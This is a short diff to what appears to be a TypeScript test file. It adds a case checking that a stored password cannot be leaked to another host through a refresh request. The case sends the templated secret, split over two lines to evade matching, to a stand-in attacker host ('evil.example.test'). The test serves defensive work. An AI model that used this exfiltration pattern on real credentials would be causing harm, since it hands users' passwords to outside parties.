@@ -48,6 +48,17 @@ const moves: [string, SecretName, Way, Way][] = [
     aCustomLoginWay({ login: loginAt('https:///evil.example.test/login') }),
   ],
   [
+    'the password of a login to another host by a refresh that names it over two lines',
+    'password',
+    aCustomLoginWay(),
+    aCustomLoginWay({
+      refresh: {
+        ...login,
+        request: { ...loginAt(`${evil}/refresh`).request, body: { kind: 'text', text: '{{\npassword\t}}' } },
+      },
+    }),
+  ],
+  [
     'the password of a login to another host by a variable',
     'password',
     aCustomLoginWay(),
